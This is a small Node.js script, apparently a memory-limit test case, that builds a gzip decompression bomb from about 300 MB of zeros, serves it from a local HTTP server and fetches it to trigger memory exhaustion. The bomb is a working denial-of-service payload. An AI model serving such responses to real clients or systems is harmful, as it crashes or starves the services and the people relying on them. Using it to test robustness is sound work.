// ends: memory
// turn: 20000
// An answer of a few kilobytes that unpacks to gigabytes.
const http = require('node:http');
const zlib = require('node:zlib');

const deflate = zlib.createGzip({ level: 9 });
const pieces = [];
deflate.on('data', (piece) => pieces.push(piece)).on('end', () => {
  const bomb = Buffer.concat(pieces);
  http.createServer((req, res) => {
    res.writeHead(200, { 'Content-Encoding': 'gzip' });
    res.end(bomb);
  }).listen(3000, async () => {
    try { await (await fetch('http://localhost:3000/')).arrayBuffer(); } catch (error) { console.log(String(error)); }
  });
});
const zeros = Buffer.alloc(1 << 20);
let count = 0;
const more = () => (count++ < 300 ? deflate.write(zeros, more) : deflate.end());
more();
